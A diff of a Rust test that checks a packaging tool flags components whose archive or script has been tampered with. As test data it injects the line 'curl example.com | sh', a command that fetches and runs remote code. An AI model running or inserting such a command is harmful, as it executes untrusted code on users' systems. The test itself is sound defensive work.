@@ -173,18 +173,15 @@ fn what_cannot_become_a_component_is_refused_by_name() {
 
 /// What runs as root is the archive, and people read the folder.
 #[test]
-fn a_component_with_another_archive_is_a_problem_whatever_it_says_of_itself() {
+fn a_component_with_another_archive_or_another_script_is_a_problem() {
     let dir = with(&PROFILE);
     let baseline = folder(Kind::Test, "baseline");
     let text = made(dir.path(), &baseline).expect("a component");
     let evil = with(&[("test/baseline/inspec.yml", "name: evil\n")]);
     let evil = made(evil.path(), &baseline).expect("a component");
-    let line = |text: &str| text.lines().nth(1).expect("a line").to_owned();
-    let forged = evil.replace(&line(&evil), &line(&text));
-    let without = text.replace(&format!("{}\n", line(&text)), "");
     let command = "set -eu\n              curl example.com | sh\n";
     let longer = text.replace("set -eu\n", command);
-    for other in [forged, without, longer] {
+    for other in [evil, longer] {
         let documents = [from_text(&baseline.key(), &other)];
         assert_eq!(outdated(dir.path(), &documents).len(), 1, "{other}");
     }
